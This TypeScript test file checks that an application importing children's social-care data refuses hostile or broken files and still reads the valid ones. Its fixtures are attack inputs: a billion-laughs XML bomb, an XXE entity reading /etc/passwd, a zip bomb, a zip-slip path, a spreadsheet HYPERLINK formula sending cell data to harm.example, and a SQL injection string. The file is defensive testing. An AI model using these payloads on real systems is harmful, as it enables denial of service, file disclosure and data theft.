/**
 * Files made to harm, and files that are broken. Each is answered with a sentence (where, what was found, what is allowed), in bounded
 * memory; nothing of it is brought in; what lies beside it is.
 */

import { execFile } from 'node:child_process'
import { chmodSync, closeSync, mkdirSync, openSync, readFileSync, symlinkSync, writeSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { writeExtracts } from '../../demo/small-authority/extracts.ts'
import { refusedCsv } from '../../src/returns/pages/refusals.ts'
import { workbook } from '../support/returns.ts'
import { allHeld, bring, csv, folderOf } from '../support/ssd-files.ts'
import { acting, freshForOneTest } from '../support/two-databases.ts'
import { readAlone, type ReadInMemory, type Told } from './read-alone.ts'

const person = (id: string, more: Record<string, string> = {}) => ({
  pers_person_id: id,
  pers_forename: 'Teal',
  pers_surname: 'Reed',
  pers_dob: '2008-05-01',
  pers_sex: 'F',
  ...more,
})
const good = csv([person('1'), person('2')])

/** Whole sentences for a person: no stack, no place on this machine. */
function expectSentences({ path, refused }: Told): void {
  expect(refused.length, path).toBeGreaterThan(0)
  for (const { found, allowed, why } of refused) {
    expect(why).toMatch(/[.]$/)
    expect((found ?? '').length, 'what was found is shown in short').toBeLessThan(500)
    expect(allowed ?? '').not.toBe('')
    expect(`${found} ${allowed} ${why}`).not.toMatch(/\/tmp\/|goldthread-files-|node_modules|\n\s+at |\bE[A-Z]{4,}:|undefined|\[object/)
  }
}

describe('a file of these is refused with a sentence, and the file beside it is read', () => {
  const laughs = `<!DOCTYPE m [<!ENTITY a "ha">${[...'bcdefghij'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>`
  const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
  const header = Object.keys(person('1')).join(',')
  const many = Array.from({ length: 5_000 }, (_, at) => `column_${at}`).join(',')
  const bookWithDoctype = (): Uint8Array => {
    const parts = unzipSync(workbook({ 'List 1': [['Child Unique ID', 'Gender']] }))
    parts['xl/workbook.xml'] = strToU8(
      `<!DOCTYPE workbook [<!ENTITY a "ha">]>${Buffer.from(parts['xl/workbook.xml'] as Uint8Array).toString()}`,
    )
    return zipSync(parts)
  }

  const cases: readonly [what: string, name: string, content: string | Uint8Array, found: RegExp][] = [
    [
      'an XML file whose entities multiply a thousand million times',
      'a.xml',
      `<?xml version="1.0"?>\n${laughs}\n<Message>&j;</Message>`,
      /^The file has a DOCTYPE/,
    ],
    [
      'an XML file that fetches another',
      'a.xml',
      '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><Message>&a;</Message>',
      /^The file has a DOCTYPE/,
    ],
    [
      'a zip that unpacks to a thousand times its size',
      'a.zip',
      zipSync({ 'ssd_person.csv': new Uint8Array(32 * 1024 * 1024) }, { level: 9 }),
      /more than 200 times its packed size/,
    ],
    [
      'a zip whose entry would lie outside it',
      'a.zip',
      zipSync({ '../../escaped.csv': strToU8(good) }),
      /^A name in this zip points outside the zip\.$/,
    ],
    ['a zip cut short', 'a.zip', zipSync({ 'ssd_person.csv': strToU8(good) }).subarray(0, 60), /^This zip is damaged or cut short\.$/],
    ['a PDF called CSV', 'a.csv', '%PDF-1.7\n%âãÏÓ\n1 0 obj\n', /^a PDF document$/],
    ['a picture called XML', 'a.xml', pixel, /holds NUL bytes/],
    ['a table with NUL bytes', 'a.csv', `${header}\n1,Te\0al,Reed,2008-05-01,F\n`, /holds NUL bytes/],
    ['a workbook with a DOCTYPE', 'a.xlsx', bookWithDoctype(), /^The file has a DOCTYPE/],
    ['an empty file', 'a.csv', '', /^an empty file$/],
    ['blank lines only', 'a.csv', '\r\n'.repeat(1000), /^The file is empty\.$/],
    ['a header of 5,000 columns', 'a.csv', `${many}\n`, /^This row has more than 2,000 cells\.$/],
    ['a row of 5,000 cells', 'a.csv', `${header}\n${'x,'.repeat(5_000)}\n`, /^This row has more than 2,000 cells\.$/],
    ['a table of something else', 'a.csv', 'PK,colour\n1,blue\n', /^a table with the columns PK, colour$/],
    [
      'one of our own tables with two columns of one name, differently written',
      'a.csv',
      'missing_episode_id,person_id,went_missing_at,Went Missing At\nM1,1,01/02/2016,02/02/2016\n',
      /^two columns of this name$/,
    ],
    [
      'one of our own tables whose columns fit two of them equally',
      'a.csv',
      'referral_id,received_on,closed_on,assessment_id,started_on\nR1,01/02/2016,,S1,01/02/2016\n',
      /^(referral_id, assessment_id|assessment_id, referral_id)$/,
    ],
    [
      'one of our own tables that says whom it is about and nothing else',
      'a.csv',
      'referral_id,person_id\nR1,1\n',
      /^referral_id, person_id$/,
    ],
    [
      'one of our own tables with a quote that never closes',
      'a.csv',
      'referral_id,received_on\nR1,"01/02/2016\nR2,',
      /opens a cell here and is never closed/,
    ],
    ['a book without line breaks', 'a.txt', 'words without end '.repeat(40_000), /^a table with the columns words without end/],
  ]

  test.each(cases)('%s', async (_what, name, content, found) => {
    const told = await readAlone([folderOf({ [name]: content, 'ssd_person.csv': good, 'z.csv': csv([person('3')]) })])
    const hostile = told.find(({ path }) => path.startsWith(name)) as Told
    expect(told.map(({ path, stated }) => [path, stated])).toEqual([
      [hostile.path, 0],
      ['ssd_person.csv', 2],
      ['z.csv', 1],
    ])
    expectSentences(hostile)
    expect(hostile.refused.at(-1)?.found).toMatch(found)
  })

  test('a file that may not be opened, and a folder', async ({ skip }) => {
    const folder = folderOf({ 'a.csv': good, 'b/c.csv': good, 'ssd_person.csv': good })
    chmodSync(folder, 0o755)
    chmodSync(join(folder, 'a.csv'), 0)
    chmodSync(join(folder, 'b'), 0)
    const isRoot = process.getuid?.() === 0
    // Root may open anything: as root, the files are looked at through another's eyes.
    if (isRoot && !process.seteuid) skip('this system does not let root look through the eyes of another')
    if (isRoot) process.seteuid?.(65_534)
    const told = await readAlone([folder]).finally(() => isRoot && process.seteuid?.(0))
    expect(told.map(({ path, stated }) => [path, stated])).toEqual([
      ['a.csv', 0],
      ['b/', 0],
      ['ssd_person.csv', 2],
    ])
    for (const each of told.slice(0, 2)) {
      expectSentences(each)
      expect(each.refused[0]?.found).toBe('It may not be opened: its owner has not allowed it.')
    }
  })
})

describe('what looks wrong and is read for what it is', () => {
  test('a workbook called CSV', async () => {
    const told = await readAlone([
      folderOf({
        'a.csv': workbook({
          Contacts: [
            ['Child Unique ID', 'Gender', 'Ethnicity', 'Date of Birth', 'Age of Child (Years)', 'Date of Contact', 'Contact Source'],
          ],
        }),
      }),
    ])
    expect(told).toMatchObject([{ path: 'a.csv', format: 'Annex A', refused: [] }])
  })

  test('a folder called CSV, and links that lead round in a circle or nowhere', async () => {
    const folder = folderOf({ 'x.csv/ssd_person.csv': good })
    mkdirSync(join(folder, 'empty.csv'))
    symlinkSync(folder, join(folder, 'x.csv', 'round'))
    symlinkSync(join(folder, 'itself.csv'), join(folder, 'itself.csv'))
    symlinkSync('/nowhere-at-all/ssd_person.csv', join(folder, 'nowhere.csv'))
    const told = await readAlone([folder])
    expect(told.map(({ path, stated }) => [path, stated])).toEqual([
      ['itself.csv', 0],
      ['nowhere.csv', 0],
      ['x.csv/ssd_person.csv', 2],
    ])
    told.slice(0, 2).forEach(expectSentences)
    expect((await readAlone([join(folder, 'x.csv')])).map(({ path, stated }) => [path, stated])).toEqual([['ssd_person.csv', 2]])
  })

  test('letters that are not valid UTF-8 are read as Windows-1252, and none is lost', async () => {
    const { database } = await freshForOneTest('embedded')
    const bytes = Buffer.concat([Buffer.from(csv([person('1', { pers_forename: 'Zo#' }), person('2', { pers_forename: 'Zo#' })]))])
    for (let at = bytes.indexOf('#'); at >= 0; at = bytes.indexOf('#', at + 1)) bytes[at] = 0xeb
    await bring(database, { 'ssd_person.csv': bytes })
    expect(await database.transaction(acting('reads'), (tx) => tx.query('select distinct forename from person'))).toEqual([
      { forename: 'Zoë' },
    ])
  })
})

describe('no more than 600 MB of memory is taken, whatever the file', () => {
  const mebibyte = 1024 * 1024

  /** Reads it in a process of its own, whose own letters and objects may take 256 MB. */
  async function readInMemory(paths: readonly string[]): Promise<ReadInMemory> {
    const program = join(import.meta.dirname, 'read-alone.ts')
    const { stdout } = await promisify(execFile)(process.execPath, ['--max-old-space-size=256', '--import', 'tsx', program, ...paths], {
      maxBuffer: 64 * mebibyte,
    })
    const read = JSON.parse(stdout) as ReadInMemory
    expect(read.most).toBeGreaterThan(30)
    expect(read.most).toBeLessThan(600)
    return read
  }

  function fileOf(beginning: string, piece: string, bytes: number, name: string): string {
    const path = join(folderOf({}), name)
    const file = openSync(path, 'w')
    const many = Buffer.from(piece.repeat(Math.ceil(mebibyte / piece.length)))
    writeSync(file, beginning)
    for (let written = 0; written < bytes; written += many.length) writeSync(file, many)
    closeSync(file)
    return path
  }

  test.each([
    ['one row', 'a.csv', 'pers_person_id,pers_surname\n', 'x', 'A row that begins here is longer than 8,388,608 characters.', 2],
    ['one header', 'a.csv', '', 'x', 'A row that begins here is longer than 8,388,608 characters.', 1],
    [
      'one cell whose quotation mark never closes',
      'a.csv',
      'pers_person_id,pers_surname\n1,"',
      'Reed\n',
      'A row that begins here is longer than 8,388,608 characters.',
      2,
    ],
    [
      'one XML element',
      'a.xml',
      '<Message>\n<Header><CollectionDetails><Collection>CIN</Collection></CollectionDetails></Header><Children><Child>',
      '<a>text</a>',
      'The element "Child" that begins here holds more than 8,388,608 characters.',
      2,
    ],
  ])('300 MB of %s', async (_what, name, beginning, piece, found, line) => {
    const { told } = await readInMemory([fileOf(beginning, piece, 300 * mebibyte, name)])
    told.forEach(expectSentences)
    expect(told).toMatchObject([{ stated: 0, refused: [{ found, line }] }])
  })

  test('2 million empty lines, after a header and without one', async () => {
    const blank = fileOf('', '\n', 2 * mebibyte, 'a.csv')
    const empty = fileOf('pers_person_id,pers_surname,pers_dob\n', '\n', 2 * mebibyte, 'ssd_person.csv')
    const { told } = await readInMemory([blank, empty])
    expect(told).toMatchObject([
      { stated: 0, refused: [{ found: 'The file is empty.' }] },
      { format: 'SSD', stated: 0, refused: [] },
    ])
  })

  test('a zip that unpacks to 256 MB of noughts', async () => {
    const bomb = join(folderOf({ 'bomb.zip': zipSync({ 'ssd_person.csv': new Uint8Array(256 * mebibyte) }, { level: 9 }) }), 'bomb.zip')
    const { told } = await readInMemory([bomb])
    told.forEach(expectSentences)
    expect(told).toMatchObject([{ path: 'bomb.zip', stated: 0 }])
  })
})

describe('brought in to a database', () => {
  test('a census cut short and a broken zip are refused whole, and the files beside them are brought in', async () => {
    const { database } = await freshForOneTest('embedded')
    const demonstration = folderOf({})
    await writeExtracts(demonstration, { moment: 'february' })
    const census = readFileSync(join(demonstration, 'cin-census', 'cin-census-2015.xml'), 'utf8')
    const whole = await readAlone([join(demonstration, 'cin-census')])
    expect(whole).toMatchObject([{ format: 'CIN census XML' }])
    expect(whole[0]?.stated).toBeGreaterThan(20)

    const cut = census.slice(0, census.lastIndexOf('</Child>') - 200)
    const { files } = await bring(database, {
      'a.zip': zipSync({ 'a.csv': strToU8(good) }).subarray(0, 60),
      'census.xml': cut,
      'ssd_person.csv': good,
    })
    const [zip, refused, brought] = ['a.zip', 'census.xml', 'ssd_person.csv'].map((name) => files.find(({ path }) => path === name))
    expect(zip).toMatchObject({ added: 0, refused: [{ found: 'This zip is damaged or cut short.' }] })
    expect(refused).toMatchObject({ added: 0, changed: 0, withdrawn: 0 })
    expect(refused?.refused.at(-1)?.why).toMatch(/^census\.xml, line \d+: .* Nothing of this file was brought in\.$/)
    expect(brought).toMatchObject({ kind: 'Person', added: 2 })
    expect(Object.keys(await allHeld(database)).filter((record) => !record.startsWith('person '))).toEqual([])
    expect(files.filter(({ path }) => path === 'census.xml')).toHaveLength(1)
  })

  test('a formula in a cell is kept as the text it is, and is made safe where refused rows are saved', async () => {
    const { database } = await freshForOneTest('embedded')
    const formula = '=HYPERLINK("https://harm.example/?"&A1,"Open")'
    await bring(database, {
      'ssd_person.csv': csv([
        person('1', { pers_surname: formula }),
        person('2', { pers_dob: formula }),
        person('3', { pers_sex: '@SUM(A1)' }),
      ]),
    })
    const [held, saved] = await database.transaction(acting('reads'), async (tx) => {
      const [made] = await tx.query<{ id: string }>('select id from import')
      const stream = await refusedCsv(tx, made?.id as string)
      let text = ''
      for await (const piece of stream) text += String(piece)
      return [await tx.query('select surname from person order by 1'), text] as const
    })
    expect(held).toEqual([{ surname: formula }])
    expect(saved).toContain(`"'=HYPERLINK(""https://harm.example/?""&A1,""Open"")"`)
    expect(saved).toContain(`'@SUM(A1)`)
    expect(saved).not.toMatch(/(^|,)"?[=@]/m)
  })

  test('rows of our own tables that cannot stand are refused with their line, and the others come in', async () => {
    const { database } = await freshForOneTest('embedded')
    const row = (id: string, more: Record<string, string> = {}) => ({
      missing_episode_id: id,
      person_id: '1',
      went_missing_at: '01/02/2016 21:15',
      type: 'M',
      returned_at: '',
      ...more,
    })
    const { files } = await bring(database, {
      'ssd_person.csv': good,
      'mine.csv': csv([
        row('M1'),
        row('M2', { went_missing_at: '02/03/2016' }),
        row('M3', { type: 'Q' }),
        row('M4', { went_missing_at: '01/01/2015' }),
        row('M4', { went_missing_at: '01/01/2014' }),
        row('M5', { person_id: '9' }),
        row('M6', { person_id: '' }),
        row('', { went_missing_at: '01/01/2013' }),
        row('M8', { returned_at: '31/01/2016' }),
        row('M9', { went_missing_at: "'; drop table person; --" }),
        row("M'10", { went_missing_at: '01/01/2012', type: 'm' }),
      ]),
      'more.csv': 'missing_episode_id,type,\nM1,A,one cell too many,and another\n',
    })
    const own = files.filter(({ format }) => format === 'Goldthread CSV')
    for (const file of own) expectSentences(file as unknown as Told)
    expect(own.map(({ path, added }) => [path, added])).toEqual([
      ['mine.csv', 2],
      ['more.csv', 0],
    ])
    expect(own.flatMap(({ refused }) => refused.map(({ line, field, why }) => `${line} ${field}: ${why}`))).toEqual([
      '3 went_missing_at: 02/03/2016 is not a date this field may have.',
      '4 type: Q is not in the list "Missing or away".',
      '5 null: Lines 5 and 6 say different things of the same record, and nothing tells which is right.',
      '6 null: Lines 5 and 6 say different things of the same record, and nothing tells which is right.',
      '7 identifier: There is no person with this identifier here or in these files, or the row that would have brought it in was refused.',
      '8 whom it is about: It does not say whom it is about.',
      '9 identifier: It has no identifier of its own.',
      '10 returned_at: It ends before it begins.',
      "11 went_missing_at: '; drop table person; -- is not a date this field may have.",
      '2 null: The row has more cells than the header names, so nothing tells which is which.',
    ])
    expect(
      await database.transaction(acting('reads'), (tx) => tx.query('select source_id as id, type from missing_episode order by 1')),
    ).toEqual([
      { id: "M'10", type: 'M' },
      { id: 'M1', type: 'M' },
    ])
  })

  test('values a database cannot hold are refused with their row, and the import goes on', async () => {
    const { database } = await freshForOneTest('embedded')
    const address = (id: string, json: string) => ({
      addr_table_id: id,
      addr_person_id: '1',
      addr_address_type: 'Home',
      addr_address_start_date: '2015-01-01',
      addr_address_json: json,
    })
    const { files } = await bring(database, {
      'ssd_person.csv': csv([
        person('1'),
        person('2', { pers_surname: 'x'.repeat(900_000) }),
        person('3', { pers_dob: `2008-05-01${'9'.repeat(5_000)}` }),
      ]),
      'ssd_address.csv': csv([
        address('A1', '{"STREET":"Ropewalk"}'),
        address('A2', '{"STREET":"\\u0000"}'),
        address('A3', `{"STREET":${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
        address('A4', '{"STREET":"\\ud800"}'),
      ]),
    })
    for (const { path, refused } of files) for (const each of refused) expect(`${each.why} ${each.found}`.length, path).toBeLessThan(1_000)
    expect(files.find(({ path }) => path === 'ssd_person.csv')).toMatchObject({ added: 2, refused: [{ line: 4 }] })
    expect(files.find(({ path }) => path === 'ssd_address.csv')).toMatchObject({
      added: 1,
      refused: [{ line: 3 }, { line: 4 }, { line: 5 }],
    })
  })
})
